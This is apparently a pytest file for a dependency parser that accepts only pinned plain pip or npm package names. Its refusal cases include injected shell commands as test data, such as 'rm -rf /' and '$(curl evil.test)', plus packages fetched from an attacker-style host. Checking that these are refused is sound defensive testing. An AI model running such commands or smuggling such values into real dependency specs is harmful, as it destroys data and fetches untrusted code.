"""Declared dependencies: pinned plain names of pip or npm, everything else refused by rule."""

from __future__ import annotations

import pytest

from skills.toolpolicy.dependencies import Dependency, DependencyInvalid, parse_dependency


@pytest.mark.parametrize(
    ("entry", "expected", "spec"),
    [
        ("pip:requests==2.32.3", Dependency("pip", "requests", "2.32.3"), "requests==2.32.3"),
        (
            "pip:python-dateutil==2.9.0.post0",
            Dependency("pip", "python-dateutil", "2.9.0.post0"),
            None,
        ),
        ("requests==2.32.3", Dependency("pip", "requests", "2.32.3"), "requests==2.32.3"),
        ("npm:left-pad@1.3.0", Dependency("npm", "left-pad", "1.3.0"), "left-pad@1.3.0"),
        ("npm:@scope/pkg@2.0.0-beta.1", Dependency("npm", "@scope/pkg", "2.0.0-beta.1"), None),
    ],
)
def test_pinned_plain_names_are_accepted(entry, expected, spec):
    parsed = parse_dependency(entry)

    assert parsed == expected
    if spec is not None:
        assert parsed.spec() == spec


@pytest.mark.parametrize(
    ("entry", "rule"),
    [
        ("https://evil.test/pkg.whl", "plain_name"),
        ("cargo:serde==1.0.0", "ecosystem"),
        ("pip:requests; rm -rf /==1.0", "plain_name"),
        ("pip:$(curl evil.test)==1.0", "plain_name"),
        ("pip:https://evil.test/pkg.whl==1.0", "plain_name"),
        ("npm:git+https://evil.test/x.git@1.0.0", "plain_name"),
        ("npm:../local@1.0.0", "plain_name"),
        ("pip:requests", "pinned_version"),
        ("pip:requests>=2", "plain_name"),
        ("pip:requests==2.*", "pinned_version"),
        ("npm:left-pad@^1.3.0", "pinned_version"),
        ("npm:left-pad", "pinned_version"),
    ],
)
def test_urls_metacharacters_and_unpinned_versions_are_refused_by_rule(entry, rule):
    with pytest.raises(DependencyInvalid) as caught:
        parse_dependency(entry)

    assert caught.value.rule == rule
    assert caught.value.entry == entry
    assert repr(entry[:120]) in str(caught.value)
